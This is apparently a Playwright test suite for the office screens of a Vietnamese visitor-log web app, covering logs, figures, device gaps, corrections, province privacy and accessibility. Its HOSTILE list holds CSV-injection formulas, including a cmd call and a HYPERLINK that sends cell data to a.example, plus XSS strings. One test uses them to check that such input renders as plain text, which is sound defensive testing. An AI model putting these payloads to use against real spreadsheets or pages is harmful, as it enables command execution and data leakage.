"""The office in a real browser: days, their log, figures, what waits for a decision, and what the province sees."""

import csv
import io
import json
import re
import subprocess
import time

import pytest
from accessibility import LOOKS, violations
from entering import come_in, sign_in
from gatebook import HEADQUARTERS, arrival, local_day, minutes_ago, new_id, now, run
from playwright.sync_api import expect

NAMES = ["Nguyễn Văn Ân", "Trần Thị An", "Lê Quốc Dũng", "Phạm Thị Ví Dụ", "Đoàn khách Trường Mẫu"]
ANSWERS = ["saysInstalled", "notInstalled", "noSmartphone", "notAsked", "notInstalled"]
# What a spreadsheet would run (https://owasp.org/www-community/attacks/CSV_Injection), and what a browser would.
HOSTILE = [
    "=1+2", "+84912345678", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?"&A1,"b")',
    "＝1", "＋1", "－1", "＠A1", '";=1', "<b>đậm</b>", "<img src=x onerror=alert(1)>", "&lt;i&gt;", "javascript:alert(1)",
]
OFFICER = ["days", "log", "figures", "way", "compare", "devices", "review"]
PROVINCE = ["compare", "days", "figures", "way", "report"]
DEVICE = "5f0c8e6a-0000-4000-8000-0000000000a1"


@pytest.fixture(scope="module")
def office(house, tmp_path_factory):
    """A day at one of an agency's two headquarters."""
    places = tmp_path_factory.mktemp("office") / "headquarters.csv"
    header = "agency,agencyName,kind,headquarters,name,address,entrances,validFrom,validTo,successor\n"
    places.write_text(header + "LA-SNV,Sở Nội vụ,so,LA-SNV-2,Trụ sở Ví Dụ,,Cổng chính;Cổng sau,,,\n", "utf-8")
    run("import", places, "--data", house.data, check=True)
    house.client, house.officer, house.province = map(house.come_in, ["le.tan", "can.bo", "tinh"])
    house.visits = fill(house.client)
    return house


def fill(client):
    """Five visitors, one asked again at the exit; a device of which two numbers are missing."""
    visits = {}
    for minute, (name, answer) in enumerate(zip(NAMES, ANSWERS)):
        visits[name] = new_id()
        visitor = {"name": name, "phone": f"0912 345 67{minute}"}
        made = client.arrive(
            visit=visits[name], visitor=visitor, appAnswer=answer, toSee="Phòng Tiếp dân", badge=str(17 + minute),
            occurred_at=now(minutes_ago(30 - minute)), party=12 if name.startswith("Đoàn") else 1,
        )
        assert made.status_code == 201, made.text
    again = {"kind": "answered", "appAnswer": "installedNow", "occurredAt": now(minutes_ago(1))}
    assert client.put(f"/api/v1/visits/{visits[NAMES[1]]}/entries/{new_id()}", again).status_code == 201
    gap = {"put": f"visits/{new_id()}", "body": {**arrival("Bùi Thị Thử"), "deviceSequence": 3}}
    client.sync([gap], headers={"Gatebook-Device": DEVICE, "Gatebook-Clock": now(-125_000)})
    return visits


def opened(page, server, part, client=None, *rest):
    """A part of the office, shown to whoever has signed in as `client`."""
    address = "/".join([f"#{part}", HEADQUARTERS, *rest])
    come_in(page, f"{server.url}/office/{address}", client or server.officer)
    expect(page.locator(f"#{part}")).to_be_visible()


def rows(page, table="log-table"):
    return page.locator(f"#{table} tbody tr")


def names(page):
    return page.locator("#log-table tbody th").all_inner_texts()


def existing_formats(server):
    """The formats this server writes."""
    path = f"/api/v1/headquarters/{HEADQUARTERS}/days/{local_day()}/log."
    found = [form for form in ["pdf", "xlsx", "csv", "jsonl", "zip"] if server.officer.request("HEAD", path + form).status_code == 200]
    assert {"csv", "jsonl"} <= set(found)
    return found


# MARK: Who is let in


def test_a_recorder_is_led_to_the_desk(page, office):
    sign_in(page, office.url + "/office/", "le.tan")
    page.wait_for_url("**/desk/")


def test_the_address_keeps_part_and_headquarters_and_going_back_works(page, office):
    opened(page, office, "days")
    expect(page.locator("#place-name")).to_have_text("Trụ sở Sở Nội vụ")
    page.locator("#parts [data-part=log]").click()
    expect(page).to_have_url(re.compile(f"#log/{HEADQUARTERS}$"))
    expect(page.locator("#log-title")).to_be_focused()
    expect(page.locator("#parts [aria-current=page]")).to_have_attribute("data-part", "log")
    page.go_back()
    expect(page.locator("#days")).to_be_visible()
    expect(page.locator("#log")).to_be_hidden()


# MARK: Days


def test_a_day_at_a_glance_says_what_it_adds_up_to_and_its_files_are_one_click(page, office):
    opened(page, office, "days")
    row = rows(page, "days-table").first
    day = "/".join(reversed(local_day().split("-")))
    expect(row.locator("th a")).to_have_text(day)
    figures = office.officer.day(local_day())["figures"]
    cells = row.locator("td.number").all_inner_texts()
    share = round(100 * figures["installed"] / (figures["asked"] - figures["noSmartphone"]))
    assert cells == [str(figures["visits"]), str(figures["people"]), f"{share}%", str(figures["notAsked"])]
    expect(row).to_contain_text("chưa khóa sổ")
    for form in existing_formats(office):
        with page.expect_download() as download:
            row.locator(f"[data-format={form}]").click()
        assert download.value.suggested_filename.startswith(f"{HEADQUARTERS}_{local_day()}")
        assert download.value.suggested_filename.endswith("." + form)
        assert download.value.path().stat().st_size > 0


def test_yesterdays_log_is_one_button_at_the_top(page, office):
    opened(page, office, "days")
    yesterday = time.strftime("%Y-%m-%d", time.gmtime(time.time() + 7 * 3600 - 86_400))
    expect(page.locator("#yesterday")).to_have_attribute("href", re.compile(f"{HEADQUARTERS}/days/{yesterday}/log.pdf"))
    expect(page.locator("#yesterday")).to_contain_text("/".join(reversed(yesterday.split("-"))))
    with page.expect_download() as download:
        page.locator("#yesterday-others [data-format=csv]").click()
    text = download.value.path().read_text("utf-8-sig")
    assert "Họ và tên" in next(csv.reader(io.StringIO(text)))


def test_a_month_without_visitors_says_so_and_the_present_one_is_the_last(page, office):
    opened(page, office, "days")
    expect(page.locator("#month-after")).to_be_disabled()
    page.locator("#month-before").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#days-state")).to_have_text("Không có ngày nào có khách trong thời gian này.")
    expect(page.locator("#days-table")).to_be_hidden()
    page.locator("#month-after").click()
    expect(rows(page, "days-table")).not_to_have_count(0)


# MARK: The log


def test_the_log_is_searched_without_accents_and_sorted_by_given_name(page, office):
    opened(page, office, "log")
    expect(page.locator("#log-count")).to_contain_text("lượt khách")
    page.fill("#log-search", "nguyen an")
    expect(rows(page)).to_have_count(1)
    assert names(page) == [NAMES[0]]
    page.fill("#log-search", "345672")
    expect(page.locator("#log-table tbody th")).to_have_text([NAMES[2]])
    page.fill("#log-search", "")
    page.locator("#log-table [data-sort=name] button").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#log-table [data-sort=name]")).to_have_attribute("aria-sort", "ascending")
    # An, Ân, Dụ, Dũng, Mẫu.
    order = ["Trần Thị An", "Nguyễn Văn Ân", "Phạm Thị Ví Dụ", "Lê Quốc Dũng", "Đoàn khách Trường Mẫu"]
    assert [name for name in names(page) if name in NAMES] == order
    page.keyboard.press("Enter")
    expect(page.locator("#log-table [data-sort=name]")).to_have_attribute("aria-sort", "descending")
    expect(page.locator("#log-table [data-sort=name] button")).to_be_focused()


def test_what_a_spreadsheet_or_a_browser_would_run_stands_there_as_plain_text(page, office):
    for text in HOSTILE:
        made = office.client.arrive(visitor={"name": text, "organisation": text}, toSee=text, purpose=text)
        assert made.status_code == 201, (text, made.text)
    opened(page, office, "log")
    for text in HOSTILE:
        button = page.locator("#log-table tbody th button", has_text=re.compile(f"^{re.escape(text)}$"))
        expect(button).to_have_count(1)
        cells = button.locator("xpath=ancestor::tr/td").all_inner_texts()
        assert cells.count(text) == 3
        button.click()
        expect(page.locator("#visit-title")).to_have_text(text)
        page.keyboard.press("Escape")
    assert page.locator("#log-table tbody :is(b, img, i, script, a)").count() == 0


def test_a_correction_an_annulment_and_an_erasure_by_keyboard_alone_each_with_a_reason(page, office):
    visit = new_id()
    office.client.arrive(visit=visit, visitor={"name": "Võ Văn Gõ Nhầm", "phone": "0912 345 999"}, badge="99")
    opened(page, office, "log")
    page.locator("#log-search").focus()
    page.keyboard.type("vo van go")
    expect(rows(page)).to_have_count(1)
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.dataset.visit") == visit:
            break
    page.keyboard.press("Enter")
    expect(page.locator("#visit-title")).to_have_text("Võ Văn Gõ Nhầm")
    expect(page.locator("#visit-title")).to_be_focused()
    expect(page.locator("#visit-entries li")).to_have_count(1)

    page.keyboard.press("Tab")
    expect(page.locator("#correct summary")).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    expect(page.locator("#correct-value")).to_have_value("Võ Văn Gõ Nhầm")
    page.keyboard.press("Tab")
    page.keyboard.press("Control+A")
    page.keyboard.type("Võ Văn Gõ Đúng")
    page.keyboard.press("Enter")
    expect(page.locator("#correct-reason-error")).to_have_text("Hãy nêu lý do.")
    expect(page.locator("#correct-reason")).to_be_focused()
    page.keyboard.type("Ghi nhầm tên")
    page.keyboard.press("Enter")
    expect(page.locator("#visit-done")).to_have_text("Đã ghi lần sửa.")
    expect(page.locator("#visit-title")).to_be_focused()
    expect(page.locator("#visit-entries del")).to_have_text("Võ Văn Gõ Nhầm")
    expect(page.locator("#visit-entries")).to_contain_text("Lý do: Ghi nhầm tên")
    page.keyboard.press("Escape")
    # The row was drawn anew; the focus is on it all the same.
    expect(page.locator(f"[data-visit='{visit}']")).to_be_focused()
    expect(rows(page).first).to_contain_text("đã sửa")

    page.keyboard.press("Enter")
    expect(page.locator("#visit-entries li")).to_have_count(2)
    page.locator("#annul summary").focus()
    page.keyboard.press("Enter")
    page.locator("#annul-reason").focus()
    page.keyboard.type("Ghi hai lần")
    page.keyboard.press("Enter")
    expect(page.locator("#visit-done")).to_have_text("Đã hủy lượt này.")
    expect(page.locator("#annul")).to_be_hidden()
    page.locator("#erase summary").focus()
    page.keyboard.press("Enter")
    page.locator("#erase-reason").focus()
    page.keyboard.type("Theo yêu cầu")
    page.keyboard.press("Enter")
    expect(page.locator("#erase-sure-error")).to_have_text("Hãy xác nhận trước khi xóa.")
    expect(page.locator("#erase-sure")).to_be_focused()
    page.keyboard.press("Space")
    page.locator("#erase-reason").press("Enter")
    expect(page.locator("#visit-title")).to_have_text("(đã xóa thông tin)")
    expect(page.locator("#correct")).to_be_hidden()
    page.keyboard.press("Escape")
    # The search no longer finds the row that was focused.
    expect(page.locator("#log-title")).to_be_focused()
    page.fill("#log-search", "")
    row = page.locator("#log-table tr", has=page.locator(f"[data-visit='{visit}']"))
    expect(row).to_have_class("off annulled")
    expect(row).to_contain_text("đã hủy")
    for form in ["Gõ Nhầm", "Gõ Đúng"]:
        assert form not in page.content()
    assert office.officer.get(f"/api/v1/visits/{visit}").json()["state"] == "annulled"


def test_a_refusal_stands_at_its_field_and_nothing_typed_is_lost(page, office):
    opened(page, office, "log")
    page.locator(f"[data-visit='{office.visits[NAMES[3]]}']").click()
    page.locator("#correct summary").click()
    page.select_option("#correct-field", "party")
    expect(page.locator("#correct-value")).to_have_value("1")
    page.fill("#correct-value", "1000")
    page.fill("#correct-reason", "Đếm lại")
    page.keyboard.press("Enter")
    expect(page.locator("#correct-value-error")).to_have_text("Số người phải từ 1 đến 999.")
    expect(page.locator("#correct-value")).to_be_focused()
    expect(page.locator("#correct-reason")).to_have_value("Đếm lại")


def test_a_thousand_visits_are_drawn_and_printed_a_page_at_a_time(page, office, tmp_path):
    """At the other headquarters, so that the day of the other tests stays short."""
    office.add_account("le.tan.2", headquarters="LA-SNV-2")
    client = office.sign_in("le.tan.2")
    lines = [
        {"put": f"visits/{new_id()}", "body": arrival(f"Nguyễn Văn Thử {each}", entrance="LA-SNV-2-A")} for each in range(1000)
    ]
    assert client.sync(lines).status_code == 200
    come_in(page, f"{office.url}/office/#log/LA-SNV-2", office.officer)
    expect(page.locator("#log-count")).to_have_text("1.000 lượt khách")
    expect(rows(page)).to_have_count(100)
    page.fill("#log-search", "thu 49")
    expect(page.locator("#log-count")).to_contain_text("trong 1.000 lượt khách")
    found = rows(page).count()
    assert 0 < found < 100
    page.locator("#log-table [data-sort=name] button").click()
    expect(rows(page)).to_have_count(found)
    page.fill("#log-search", "")
    page.locator("#log-page-after").press("Enter")
    expect(page.locator("#log-page")).to_have_text("Trang 2/10")
    expect(page.locator("#log-frame")).to_be_focused()
    expect(rows(page)).to_have_count(100)
    # On paper are the names, and the headings of columns on every page.
    page.pdf(path=tmp_path / "log.pdf", format="A4", landscape=True)
    printed = subprocess.run(["pdftotext", tmp_path / "log.pdf", "-"], capture_output=True, text=True, check=True).stdout
    pages = printed.rstrip("\f\n").split("\f")
    assert len(pages) > 1 and all("Họ và tên" in each for each in pages)
    assert printed.count("Nguyễn Văn Thử") == 100


# MARK: Figures


def test_charts_say_what_the_table_says_and_are_read_with_the_arrow_keys(page, office):
    opened(page, office, "figures")
    figures = office.officer.day(local_day())["figures"]
    chart = page.locator("#chart-visitors")
    expect(chart.locator("svg[role=img] title")).to_have_text("Khách mỗi ngày")
    expect(chart.locator("svg desc")).to_contain_text(f"{figures['visits']} lượt")
    slider = chart.locator("input[type=range]")
    slider.focus()
    expect(chart.locator("output")).to_contain_text(f"{figures['visits']} lượt, {figures['people']} người")
    page.keyboard.press("ArrowLeft")
    expect(chart.locator("output")).to_contain_text("0 lượt, 0 người")
    expect(slider).to_have_attribute("aria-valuetext", re.compile("0 lượt, 0 người"))
    first = rows(page, "figures-table").first.locator("td.number").all_inner_texts()
    assert first[:6] == [str(figures[key]) for key in ["visits", "people", "asked", "installed", "noSmartphone", "notAsked"]]

    page.locator("#figures-range [data-days='7']").click()
    expect(page.locator("#chart-visitors input")).to_have_attribute("max", "6")
    page.fill("#figures-from", "2020-01-01")
    expect(page.locator("#figures-range-error")).to_have_text("Tối đa 366 ngày một lần.")
    page.fill("#figures-from", "2099-01-01")
    expect(page.locator("#figures-range-error")).to_have_text("Ngày cuối phải từ ngày đầu trở đi.")


def test_the_way_to_the_app_is_counted_from_the_entries(page, office):
    opened(page, office, "way")
    told = office.officer.get(f"/api/v1/headquarters/{HEADQUARTERS}/funnel?from={local_day()}&to={local_day()}").json()
    assert told["funnel"]["notInstalled"] >= 2 and told["funnel"]["installedBeforeLeaving"] == 1
    whole = page.locator(".funnel").first
    values = whole.locator(".value").all_inner_texts()
    assert [re.match(r"\d+", value)[0] for value in values] == [
        str(told["funnel"]["asked"]), str(told["funnel"]["notInstalled"]),
        str(sum(each["scans"] for each in told["entrances"])), str(told["funnel"]["installedBeforeLeaving"]),
    ]
    expect(page.locator(".funnel")).to_have_count(1 + len(told["entrances"]))


# MARK: Devices and the review tray


def test_what_is_missing_of_a_device_is_said_first_and_it_can_be_revoked(page, office):
    opened(page, office, "devices")
    expect(page.locator("#devices-state")).to_contain_text("Số thiết bị còn dòng chưa nhận được: 1.")
    row = rows(page, "devices-table").first
    expect(row).to_contain_text("thiếu số 1-2")
    expect(row).to_contain_text("chậm 2 phút 5 giây")
    row.get_by_role("button").click()
    expect(page.locator("#revoke [data-close]")).to_be_focused()
    page.keyboard.press("Escape")
    row.get_by_role("button").click()
    page.locator("#revoke-yes").click()
    expect(page.locator("#devices-table")).to_contain_text("thu hồi")
    expect(page.locator("#devices-title")).to_be_focused()


def test_a_refused_line_is_mended_and_entered_or_put_aside_with_a_reason(page, office):
    visit, other = new_id(), new_id()
    lines = [
        {"put": f"visits/{visit}", "body": arrival("Hồ Thị <i>Thử</i>", party=1000)},
        {"put": f"visits/{other}", "body": arrival("Hồ Văn Bỏ", party=0)},
    ]
    office.client.sync(lines)
    opened(page, office, "review")
    expect(page.locator(".refused")).to_have_count(2)
    item = page.locator(".refused").first
    expect(item.locator("h2")).to_have_text("Số người phải từ 1 đến 999.")
    expect(item.locator("[name='visitor.name']")).to_have_value("Hồ Thị <i>Thử</i>")
    item.locator(".main-action").click()
    expect(item.locator("[name=party]")).to_be_focused()
    expect(item.locator("[name=party]")).to_have_attribute("aria-invalid", "true")
    page.keyboard.press("Control+A")
    page.keyboard.type("10")
    page.keyboard.press("Enter")
    expect(page.locator("#review-done")).to_have_text("Đã ghi vào sổ.")
    expect(page.locator("#review-title")).to_be_focused()
    assert office.officer.get(f"/api/v1/visits/{visit}").json()["party"] == 10

    expect(page.locator(".refused")).to_have_count(1)
    page.locator(".refused summary").press("Enter")
    page.locator(".refused .danger").press("Enter")
    expect(page.locator(".refused details .error").first).to_have_text("Hãy nêu lý do.")
    page.keyboard.type("Khách không vào")
    page.keyboard.press("Enter")
    expect(page.locator("#review-count")).to_have_text("Không có gì chờ xem xét.")
    assert office.officer.get(f"/api/v1/visits/{other}").status_code == 404


# MARK: The province


def test_the_province_compares_headquarters_and_sees_no_person(page, office):
    answers = []
    page.on("response", lambda response: answers.append(response) if "/api/" in response.url else None)
    opened(page, office, "compare", office.province)
    assert page.locator("#parts a:visible").evaluate_all("links => links.map(link => link.dataset.part)") == [
        "days", "figures", "way", "compare", "report",
    ]
    people = page.locator("#compare-table [data-sort=people] button")
    people.click()
    people.click()
    expect(page.locator("#compare-table [data-sort=people]")).to_have_attribute("aria-sort", "descending")
    people = rows(page, "compare-table").locator("td:nth-child(3)").all_inner_texts()
    counts = [int(each.replace(".", "")) for each in people]
    assert counts == sorted(counts, reverse=True) and counts[0] > counts[-1] == 0
    page.fill("#compare-search", "khong co tru so nao")
    expect(page.locator("#compare-count")).to_have_text("0 trụ sở")
    page.fill("#compare-search", "")
    bodies = []
    for part in PROVINCE:
        page.goto(f"{office.url}/office/#{part}/{HEADQUARTERS}")
        expect(page.locator(f"#{part}")).to_be_visible()
        page.wait_for_load_state("networkidle")
        bodies.append(page.content())
    bodies += [answer.text() for answer in answers if answer.status == 200]
    assert len(answers) > 5
    known = {each for name in [*NAMES, "Bùi Thị Thử"] for each in (name, json.dumps(name))}
    for text in bodies:
        assert not [name for name in known if name in text]
        assert not re.search(r"0912[ .]?345", text)
    for path in [f"/api/v1/headquarters/{HEADQUARTERS}/days/{local_day()}", "/api/v1/review"]:
        assert office.province.get(path).status_code == 404
    page.goto(f"{office.url}/office/#log/{HEADQUARTERS}")
    expect(page.locator("#log")).to_be_hidden()


# MARK: For everyone


@pytest.mark.parametrize(("scheme", "language"), LOOKS)
@pytest.mark.parametrize("who", ["officer", "province"])
def test_no_part_breaks_a_rule_of_accessibility(chromium, office, scheme, language, who):
    context = chromium.new_context(color_scheme=scheme, timezone_id="Asia/Ho_Chi_Minh", viewport={"width": 1366, "height": 768})
    page = context.new_page()
    parts = OFFICER if who == "officer" else PROVINCE
    opened(page, office, parts[0], getattr(office, who))
    if language == "en":
        page.click("#language")
    for part in parts:
        page.goto(f"{office.url}/office/#{part}/{HEADQUARTERS}")
        expect(page.locator(f"#{part}")).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert violations(page) == [], part
    if who == "officer":
        page.goto(f"{office.url}/office/#log/{HEADQUARTERS}")
        page.locator("#log-table tbody th button").first.click()
        expect(page.locator("#visit-entries li").first).to_be_visible()
        for part in ["correct", "annul", "erase"]:
            page.locator(f"#{part} summary").click()
        assert violations(page) == [], "visit"
    context.close()


@pytest.mark.parametrize("width,height,scale", [(320, 640, 1), (683, 384, 2)])
def test_nothing_is_lost_on_a_narrow_screen_or_at_twice_the_size(chromium, office, width, height, scale):
    context = chromium.new_context(timezone_id="Asia/Ho_Chi_Minh", viewport={"width": width, "height": height}, device_scale_factor=scale)
    page = context.new_page()
    opened(page, office, "days")
    for part in OFFICER:
        page.goto(f"{office.url}/office/#{part}/{HEADQUARTERS}")
        expect(page.locator(f"#{part}")).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("document.documentElement.scrollWidth") <= width, part
    context.close()


@pytest.mark.parametrize("options", [{"forced_colors": "active"}, {"contrast": "more"}, {"contrast": "more", "color_scheme": "dark"}])
def test_high_contrast_keeps_charts_and_states(chromium, office, options):
    context = chromium.new_context(timezone_id="Asia/Ho_Chi_Minh", **options)
    page = context.new_page()
    opened(page, office, "figures")
    page.wait_for_load_state("networkidle")
    expect(page.locator("#chart-visitors svg[role=img]")).to_be_visible()
    bar = page.locator("#chart-visitors svg[role=img] .bars rect").last
    assert bar.evaluate("bar => getComputedStyle(bar).fill") != page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert violations(page) == []
    context.close()


def test_the_focus_is_always_to_be_seen(page, office):
    opened(page, office, "days")
    seen = set()
    for _ in range(40):
        page.keyboard.press("Tab")
        focus = page.evaluate(
            "() => { const at = document.activeElement, style = getComputedStyle(at);"
            " return { body: at === document.body, tag: at.outerHTML.slice(0, 80), width: parseFloat(style.outlineWidth), style: style.outlineStyle }; }"
        )
        if focus["body"]:
            continue
        seen.add(focus["tag"])
        assert focus["style"] != "none" and focus["width"] >= 2, focus
    assert len(seen) > 10
